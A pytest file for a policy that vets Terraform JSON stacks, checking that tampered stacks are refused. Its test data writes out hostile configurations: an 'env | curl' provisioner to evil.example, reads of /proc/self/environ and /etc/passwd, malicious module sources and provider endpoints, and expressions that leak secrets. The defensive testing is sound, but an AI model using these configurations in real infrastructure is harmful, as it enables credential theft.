"""Stacks from elsewhere: those of this version pass, and each attack on who plans them is refused."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from policies.foreign_stack import parsed, refusals
from policies.template_expressions import problem
from tests.infra.provider_schema import schema
from tests.stacks.synthesised import LISTED, allowed, resources, stacks_of

TOPIC, BUCKET, OBJECT = "confluent_kafka_topic", "aws_s3_bucket", "aws_s3_object"


def states(environment: str) -> list[dict[str, Any]]:
    found = []
    for stack in stacks_of(environment).values():
        [(backend, config)] = stack["terraform"]["backend"].items()
        found.append({"backend": backend, "config": {k: v for k, v in config.items() if k != "use_lockfile"}})
    return found


def refused(attack: Callable[[dict[str, Any]], Any], what: str = "confluent", name: str = "flowing") -> list[str]:
    """What is refused of a stack that was changed."""
    trusted = stacks_of(name)[what]
    stack = copy.deepcopy(trusted)
    changed = attack(stack)
    return refusals(stack if changed is None else changed, trusted, states("dev" if name == "flowing" else name))


@pytest.mark.parametrize(("name", "what"), LISTED)
def test_the_stacks_of_this_version_pass(name: str, what: str) -> None:
    assert refused(lambda stack: None, what, name) == []


def test_the_list_is_that_of_the_stacks(root: Path) -> None:
    """`python -m tests.stacks.synthesised` writes it again; read its difference as a change of security."""
    listed = json.loads((root / "policies" / "foreign_stack.json").read_text())
    assert listed == allowed()


def sensitive(kind: str, *, is_data: bool) -> set[str]:
    """The arguments that the provider calls sensitive, such as `credentials.secret`."""
    known = schema(kind.partition("_")[0])["data_source_schemas" if is_data else "resource_schemas"]

    def names(block: dict[str, Any], path: str = "") -> Iterator[str]:
        for name, attribute in block.get("attributes", {}).items():
            if attribute.get("sensitive"):
                yield path + name
        for name, inner in block.get("block_types", {}).items():
            yield from names(inner["block"], f"{path}{name}.")

    return {*names(known[kind]["block"])} if kind in known else set()


def test_what_a_provider_calls_sensitive_comes_only_into_what_a_provider_calls_sensitive() -> None:
    """By the schemas, so that a new resource with a secret cannot open a way unseen."""
    carried = set()
    for place, written in allowed()["expressions"].items():
        for each in written:
            for data, kind, attribute in re.findall(
                r"(data\.)?\b((?:aws|confluent)_[a-z0-9_]+)\.\*\.([a-z0-9_.]+)", each
            ):
                if attribute in sensitive(kind, is_data=bool(data)):
                    carried.add((each, place))
    assert {each for each, _ in carried} == {"${confluent_api_key.*.secret}"}
    for _, place in carried:
        section, kind, argument = place.split(".", 2)
        assert section == "resource"
        assert argument in sensitive(kind, is_data=False)
        assert argument in {"credentials.secret", "secret_string"}, (
            "`policies/foreign_stack.py` checks the form of these two"
        )


def test_each_reference_names_one_attribute_of_a_block() -> None:
    """A reference to a complete block, or to all outputs of a state, would carry each secret in it."""
    written = {each for forms in allowed()["expressions"].values() for each in forms}
    for each in written:
        for match in re.finditer(r"\b(?:(?:aws|confluent)_[a-z0-9_]+|terraform_remote_state)\.\*", each):
            assert re.match(r"\.[a-z_]+", each[match.end() :]), each
        assert "*]" not in each
    functions = {each for each in written if re.search(r"[a-z0-9_]\(", each)}
    assert functions == {
        '${replace(data.terraform_remote_state.*.outputs.*, "SASL_SSL://", "")}', "${sha256(local.*)}"
    }  # fmt: skip
    hashed = {each for place, forms in allowed()["expressions"].items() if place == "locals" for each in forms}
    assert not [each for each in hashed if "secret" in each]


def test_nothing_on_the_list_reads_the_machine_or_another_secret() -> None:
    for arguments in allowed()["resource"].values():
        assert not {
            "provisioner",
            "connection",
            "provider",
            "count",
            "for_each",
            "source",
            "filename",
            "triggers_replace",
        } & set(arguments)
    assert set(allowed()["data"]) == {
        "confluent_environment", "confluent_kafka_cluster", "confluent_schema_registry_cluster", "terraform_remote_state"
    }  # fmt: skip
    assert not {kind for kind in allowed()["resource"] if not kind.startswith(("aws_", "confluent_"))}


def first(stack: dict[str, Any], kind: str) -> dict[str, Any]:
    return next(iter(resources(stack, kind).values()))


def setting(kind: str, **arguments: Any) -> Callable[[dict[str, Any]], None]:
    return lambda stack: first(stack, kind).update(arguments)


def adding(section: str, **content: Any) -> Callable[[dict[str, Any]], None]:
    return lambda stack: stack.setdefault(section, {}).update(content)


def provided(**arguments: Any) -> Callable[[dict[str, Any]], None]:
    return lambda stack: stack["provider"]["aws"][0].update(arguments)


def in_a_local(stack: dict[str, Any]) -> None:
    stack.setdefault("locals", {}).update(e=EVIL)
    first(stack, TOPIC).update(rest_endpoint="${local.e}")


def at_a_removal(stack: dict[str, Any]) -> None:
    stack["removed"] = [{"from": f"{TOPIC}.x", "lifecycle": {"destroy": False}, "provisioner": RUN}]


EVIL = "https://evil.example"
RUN = [{"local-exec": {"command": "env | curl -d @- https://evil.example"}}]
ATTACKS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "a program as a data source": adding("data", external={"x": {"program": ["sh", "-c", "env"]}}),
    "an address as a data source": adding("data", http={"x": {"url": EVIL}}),
    "a file of the machine as a data source": adding("data", local_file={"x": {"filename": "/proc/self/environ"}}),
    "another secret as a data source": adding("data", aws_secretsmanager_secret_version={"x": {"secret_id": "payroll"}}),
    "a Lambda call as a data source": adding("data", aws_lambda_invocation={"x": {"function_name": "f", "input": "{}"}}),
    "an object of S3 as a data source": adding("data", aws_s3_object={"x": {"bucket": "b", "key": "k"}}),
    "a state of another environment": adding("data", terraform_remote_state={"x": {"backend": "s3", "config": {"bucket": "prod", "key": "prod/x"}}}),
    "a state over HTTP": adding("data", terraform_remote_state={"x": {"backend": "http", "config": {"address": EVIL}}}),
    "a state with defaults": lambda stack: next(iter(stack["data"]["terraform_remote_state"].values())).update(defaults={"x": "y"}),
    "a program that runs": setting(TOPIC, provisioner=RUN),
    "a program that runs at a removal": at_a_removal,
    "a program of terraform_data": adding("resource", terraform_data={"x": {"provisioner": RUN}}),
    "a program of null_resource": adding("resource", null_resource={"x": {}}),
    "a resource of another type": adding("resource", aws_iam_user={"x": {"name": "me"}}),
    "a resource of another provider": adding("resource", local_file={"x": {"filename": "/tmp/x", "content": "x"}}),
    "a module": adding("module", x={"source": "git::https://evil.example"}),
    "a variable, which TF_VAR_ sets": adding("variable", AWS_SESSION_TOKEN={}),
    "an import": lambda stack: stack.update({"import": [{"to": f"{TOPIC}.x", "id": "x"}]}),
    "a check with a data source": adding("check", c={"data": {"http": {"x": {"url": EVIL}}}}),
    "an ephemeral resource": adding("ephemeral", aws_secretsmanager_secret_version={"x": {"secret_id": "payroll"}}),
    "a provider's endpoint": provided(endpoints=[{"sts": EVIL}]),
    "another role": provided(assume_role=[{"role_arn": "arn:aws:iam::1:role/admin"}]),
    "a token from a file": provided(assume_role_with_web_identity=[{"web_identity_token_file": "/proc/self/environ"}]),
    "another profile": provided(shared_credentials_files=["/x"]),
    "a proxy": provided(http_proxy=EVIL),
    "another region": provided(region="us-east-1"),
    "another account": provided(allowed_account_ids=["999999999999"]),
    "a second provider": lambda stack: stack["provider"]["aws"].append({"alias": "x", "endpoints": [{"sts": EVIL}]}),
    "a provider with credentials": lambda stack: stack["provider"]["confluent"][0].update(endpoint=EVIL),
    "another provider": lambda stack: stack["terraform"]["required_providers"].update(evil={"source": "evil/evil", "version": "1.0.0"}),
    "another source of a provider": lambda stack: stack["terraform"]["required_providers"]["aws"].update(source="evil/aws"),
    "another version of a provider": lambda stack: stack["terraform"]["required_providers"]["aws"].update(version="5.0.0"),
    "no state": lambda stack: stack["terraform"].pop("backend"),
    "another state": lambda stack: stack["terraform"].update(backend={"http": {"address": EVIL}}),
    "another key of the state": lambda stack: stack["terraform"]["backend"]["s3"].update(key="prod/confluent.tfstate"),
    "HCP Terraform": lambda stack: stack["terraform"].update(cloud={"organization": "evil"}),
    "the credentials to another address": setting(TOPIC, rest_endpoint=EVIL),
    "the credentials to an address in a local": in_a_local,
    "the credentials to an address of a schema": setting("confluent_schema", rest_endpoint=f"{EVIL}?${{confluent_kafka_cluster.cluster.rest_endpoint}}"),
    "other credentials": setting(TOPIC, credentials={"key": "${confluent_service_account.x.id}", "secret": "x"}),
    "credentials as a list": setting(TOPIC, credentials=[{"key": "k", "secret": "s"}]),
    "a question about a secret": setting("confluent_tableflow_topic", lifecycle={"postcondition": [{"condition": '${substr(confluent_api_key.k.secret, 0, 1) == "a"}', "error_message": "x"}]}),
    "a secret in an error": setting(TOPIC, lifecycle={"precondition": [{"condition": "${true}", "error_message": "${confluent_api_key.k.secret}"}]}),
    "many of one": setting(TOPIC, count='${confluent_api_key.k.secret == "x" ? 1 : 0}'),
    "one for each": setting(TOPIC, for_each="${toset(confluent_api_key.k)}"),
    "another provider of a resource": setting(TOPIC, provider="aws.x"),
    "a dependency that is an expression": setting(TOPIC, depends_on=["${file(\"/etc/passwd\")}"]),
    "a dynamic block": setting(TOPIC, config={"dynamic": {"x": {"for_each": [1]}}}),
    "an expression in a name": setting(TOPIC, config={"${file(\"/etc/passwd\")}": "x"}),
    "a resource section as a list": lambda stack: {**stack, "resource": [stack["resource"], {"null_resource": {"x": {}}}]},
    "a kind as a list": lambda stack: stack["resource"].update({TOPIC: [stack["resource"][TOPIC]]}),
    "a body as a list": lambda stack: stack["resource"][TOPIC].update(x=[{"provisioner": RUN}]),
    "a name with an expression": lambda stack: stack["resource"][TOPIC].update({"${file(1)}": {}}),
    "an output with a condition": adding("output", x={"value": "x", "precondition": [{"condition": "${true}", "error_message": "x"}]}),
    "locals as a list": lambda stack: stack.update(locals=[{"x": "${file(1)}"}]),
    "a move with an expression": lambda stack: stack.update(moved=[{"from": "${file(1)}", "to": f"{TOPIC}.x"}]),
    "a removal that destroys": lambda stack: stack.update(removed=[{"from": f"{TOPIC}.x", "lifecycle": {"destroy": True}}]),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused(name: str) -> None:
    assert refused(ATTACKS[name]), name


def only(stack: dict[str, Any], kind: str) -> str:
    """The address of the first resource of a type."""
    return f"{kind}.{next(iter(resources(stack, kind)))}"


def secret_of(stack: dict[str, Any]) -> str:
    return f"{only(stack, 'confluent_api_key')}.secret"


def stored(stack: dict[str, Any]) -> str:
    return f"{only(stack, 'aws_secretsmanager_secret_version')}.secret_string"


def sent(stack: dict[str, Any]) -> str:
    return f"{only(stack, TOPIC)}.credentials[0].secret"


SECRETS: dict[str, Callable[[dict[str, Any]], str]] = {
    "as it is": lambda stack: f"${{{secret_of(stack)}}}",
    "inside a text": lambda stack: f"x-${{{secret_of(stack)}}}",
    "with signs between its digits": lambda stack: f'${{replace({secret_of(stack)}, "/(.)/", "$1-")}}',
    "a short part": lambda stack: f"${{substr({secret_of(stack)}, 0, 7)}}",
    "its hash": lambda stack: f"${{sha256({secret_of(stack)})}}",
    "a part of its hash": lambda stack: f"${{substr(sha256({secret_of(stack)}), 0, 8)}}",
    "a guess": lambda stack: f'${{({secret_of(stack)} == "a") ? "b" : "c"}}',
    "in a nested template": lambda stack: f'${{"${{{secret_of(stack)}}}"}}',
    "in a nested template of a function": lambda stack: f'${{replace("${{{secret_of(stack)}}}", "SASL_SSL://", "")}}',
    "the complete key": lambda stack: f"${{{only(stack, 'confluent_api_key')}}}",
    "a splat of the key": lambda stack: f"${{{only(stack, 'confluent_api_key')}[*].secret}}",
    "an old splat of the key": lambda stack: f"${{{only(stack, 'confluent_api_key')}.*.secret}}",
    "an index of the key": lambda stack: f'${{{only(stack, "confluent_api_key")}["secret"]}}',
    "a list of the secret": lambda stack: f"${{[{secret_of(stack)}][0]}}",
    "all keys": lambda stack: "${confluent_api_key}",
    "as JSON": lambda stack: f"${{jsonencode({only(stack, 'confluent_api_key')})}}",
    "of the secret store": lambda stack: f"${{{stored(stack)}}}",
    "of the secret store, a part": lambda stack: f'${{replace({stored(stack)}, "/(.)/", "$1-")}}',
    "of the secret store, complete": lambda stack: f"${{{only(stack, 'aws_secretsmanager_secret_version')}}}",
    "of a resource that uses it": lambda stack: f"${{{sent(stack)}}}",
    "of a resource that uses it, a part": lambda stack: f"${{substr({sent(stack)}, 0, 7)}}",
    "of a state, all outputs": lambda stack: "${data.terraform_remote_state.x.outputs}",
    "of a state, complete": lambda stack: "${data.terraform_remote_state.x}",
}
"""Expressions that carry a secret of the state."""
PLACES: dict[str, Callable[[dict[str, Any], str], Any]] = {
    "an id that the provider looks up": lambda stack, text: adding("data", confluent_environment={"x": {"id": text}})(stack),
    "a name": lambda stack, text: setting(TOPIC, topic_name=text)(stack),
    "a setting": lambda stack, text: setting(TOPIC, config={"retention.ms": text})(stack),
    "a nested id": lambda stack, text: setting(TOPIC, kafka_cluster={"id": text})(stack),
    "the name of a key": lambda stack, text: setting(TOPIC, credentials={"key": text, "secret": f"${{{secret_of(stack)}}}"})(stack),
    "a secret's id": lambda stack, text: setting("aws_secretsmanager_secret_version", secret_id=text)(stack),
    "a policy": lambda stack, text: adding("resource", aws_iam_policy={"x": {"policy": text}})(stack),
    "encryption of an object": lambda stack, text: adding("resource", aws_s3_object={"x": {"server_side_encryption": text}})(stack),
    "the content of an object": lambda stack, text: adding("resource", aws_s3_object={"x": {"content": text}})(stack),
    "an output": lambda stack, text: adding("output", x={"value": text})(stack),
    "a sensitive output": lambda stack, text: adding("output", x={"value": text, "sensitive": True})(stack),
    "a local": lambda stack, text: adding("locals", x=text)(stack),
    "an error message": lambda stack, text: setting("confluent_tableflow_topic", lifecycle={"postcondition": [{"condition": '${self.write_mode == "APPEND"}', "error_message": text}]})(stack),
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_of_the_state_comes_into_no_text(secret: str, place: str) -> None:
    """A provider's error shows ids and names, and a review shows arguments. Masking knows complete secrets only."""
    assert refused(lambda stack: PLACES[place](stack, SECRETS[secret](stack)))


@pytest.mark.parametrize("place", [each for each in PLACES if each != "the name of a key"])
def test_such_a_place_may_have_another_text(place: str) -> None:
    assert refused(lambda stack: PLACES[place](stack, "plain")) == []


@pytest.mark.parametrize("secret", [each for each in SECRETS if each != "as it is"])
def test_credentials_are_the_secret_as_it_is(secret: str) -> None:
    def attack(stack: dict[str, Any]) -> None:
        key = f"${{{only(stack, 'confluent_api_key')}.id}}"
        first(stack, TOPIC).update(credentials={"key": key, "secret": SECRETS[secret](stack)})

    assert refused(attack)


def test_credentials_are_of_one_key() -> None:
    def attack(stack: dict[str, Any]) -> None:
        one, other = list(resources(stack, "confluent_api_key"))[:2]
        credentials = {"key": f"${{confluent_api_key.{one}.id}}", "secret": f"${{confluent_api_key.{other}.secret}}"}
        first(stack, TOPIC).update(credentials=credentials)

    assert refused(attack)


@pytest.mark.parametrize(
    "text",
    [
        "${KEY.secret}", "x", '{"kafka_key": "${KEY.secret}", "kafka_secret": "${KEY.secret}"}', '{"kafka_secret": "${KEY.secret}"}',
        '{"kafka_key": "${KEY.id}", "kafka_secret": "${substr(KEY.secret, 0, 7)}", "registry_key": "${KEY.id}", "registry_secret": "${KEY.secret}"}',
        '{"kafka_key": "${KEY.id}", "kafka_secret": "${KEY.secret}x", "registry_key": "${KEY.id}", "registry_secret": "${KEY.secret}"}',
        '{"kafka_key": "${KEY.id}", "kafka_secret": "${KEY.secret}", "registry_key": "${KEY.secret}", "registry_secret": "${KEY.secret}"}',
    ],
)  # fmt: skip
def test_the_secret_store_has_the_keys_of_the_jobs_in_their_form(text: str) -> None:
    def attack(stack: dict[str, Any]) -> None:
        wanted = text.replace("KEY", only(stack, "confluent_api_key"))
        first(stack, "aws_secretsmanager_secret_version").update(secret_string=wanted)

    assert refused(attack)


@pytest.mark.parametrize(
    "text",
    [
        '${replace(data.terraform_remote_state.cross-stack-reference-input-dev-confluent.outputs.o, "/(.)/", "$1-")}',
        '${replace(local.environment-text, "SASL_SSL://", "")}', "${substr(local.environment-text, 0, 7)}", "${sha256(sha256(local.x))}",
        "${sha256(data.terraform_remote_state.cross-stack-reference-input-dev-confluent.outputs.o)}", '${sha256("${local.x}")}',
    ],
)  # fmt: skip
def test_a_function_has_the_argument_that_the_stacks_give_it(text: str) -> None:
    assert refused(adding("locals", x=text), "ingestion", "dev")
    assert refused(adding("output", x={"value": text}), "ingestion", "dev")


def test_a_reference_is_in_the_argument_in_which_the_stacks_have_it() -> None:
    assert refused(lambda stack: adding("output", x={"value": f"${{{only(stack, 'confluent_api_key')}.id}}"})(stack))
    bound = "${data.terraform_remote_state.cross-stack-reference-input-dev-confluent.outputs.o}"
    assert refused(setting(OBJECT, key=bound), "ingestion", "dev")


def test_a_move_is_between_objects_of_one_type() -> None:
    moved = {"from": "aws_secretsmanager_secret_version.x", "to": "aws_s3_object.x"}
    assert refused(lambda stack: stack.update(moved=[moved]))
    assert refused(lambda stack: stack.update(moved=[{**moved, "to": "aws_secretsmanager_secret_version.y"}])) == []


def test_a_file_of_the_machine_as_the_content_of_an_object_is_refused() -> None:
    assert refused(setting(OBJECT, source="/proc/self/environ"), "ingestion", "dev")


EXPRESSIONS = (
    '${file("/etc/passwd")}', '${filebase64("/etc/passwd")}', '${fileexists("/x")}', '${filesha256("/x")}', '${fileset("/", "*")}',
    '${templatefile("/x", {})}', '${templatestring("x", {})}', '${pathexpand("~")}', "${abspath(path.module)}", "${path.cwd}", "${var.x}",
    "${nonsensitive(confluent_api_key.k.secret)}", "${module.x.y}", "${each.key}", "${count.index}", "${terraform.applying}",
    "${data.external.x.result}", "${provider::evil::f(1)}", '${replace (file("/x"), "a", "b")}', '${sha256(file("/x"))}',
    '${"${file("/x")}"}', '${replace("${file("/x")}", "a", "b")}', "${timestamp()}", "${uuid()}", "${[for x in local.a : x]}",
    '${/* */ file("/x")}', '${file/**/("/x")}', '${# \nfile("/x")}', '${file\n("/x")}', "${<<X\n${file(1)}\nX\n}", "%{ if true }x%{ endif }",
    '${replace(data.terraform_remote_state.x.outputs.o, "SASL_SSL://", "y")}', "${aws_s3_bucket.b}", "${aws_s3_bucket.b.arn[0]}", "${aws_s3_bucket.b.arn }",
    "${aws_s3_bucket.b.bucket}", "${aws_s3_bucket.b.c.arn}", "${aws_s3_bucket.b[0].arn}", "${data.aws_s3_bucket.b.arn}", '${local.x == "a }\\" b"}', "${local.x}${local.y.z}",
    "${local.x", '${"', "${local.x.file(1)}", "${aws_iam_user.x.name}", "$${x}${file(1)}", "$$${file(1)}", "%$${file(1)}", "$%%{file(1)}", "${local[\"x\"](1)}", "${(file)(1)}",
    "${~ file(1) ~}", "${jsondecode(local.x)}", "${ephemeral.x.y}", "${1 + 2}", "${local.x * 2}", "${{a = 1}}",
)  # fmt: skip


FORMS = (
    "${local.*}", "${sha256(local.*)}", '${replace(data.terraform_remote_state.*.outputs.*, "SASL_SSL://", "")}', "${aws_s3_bucket.*.arn}",
    "${confluent_provider_integration.*.aws[0].external_id}", '${(confluent_kafka_cluster.*.id == "none") ? "none" : confluent_environment.*.id}',
)  # fmt: skip


@pytest.mark.parametrize("text", EXPRESSIONS)
def test_an_expression_that_is_not_needed_is_refused(text: str) -> None:
    assert problem(text, FORMS)
    assert refused(adding("locals", x={"deep": [text]}))


@pytest.mark.parametrize(
    "text",
    [
        "plain } text (with) file(\"/x\")", "$${aws:PrincipalTag/x}", "%%{x}", "${local.a-b}", "${sha256(local.x)}.json", "$${local.x}${local.y}",
        '${replace(data.terraform_remote_state.x.outputs.o-1, "SASL_SSL://", "")}', "${aws_s3_bucket.b.arn}/*", "50 % of $5 and a }",
        "${confluent_provider_integration.p.aws[0].external_id}", '${(confluent_kafka_cluster.c.id == "none") ? "none" : confluent_environment.e.id}',
        "a ${local.x} b ${local.y}",
    ],
)  # fmt: skip
def test_what_the_stacks_use_is_allowed(text: str) -> None:
    assert problem(text, FORMS) == ""


@pytest.mark.parametrize(
    "text",
    [
        '{"resource": {}, "resource": {"null_resource": {"x": {}}}}', '{"a": {"b": 1, "b": 2}}', "[]", "1", "", "{", '{"a": NaN}',
        "{" + '"a":{' * 100_000, "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    ],
)  # fmt: skip
def test_json_that_terraform_could_read_in_another_way_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="."):
        parsed(text.encode())
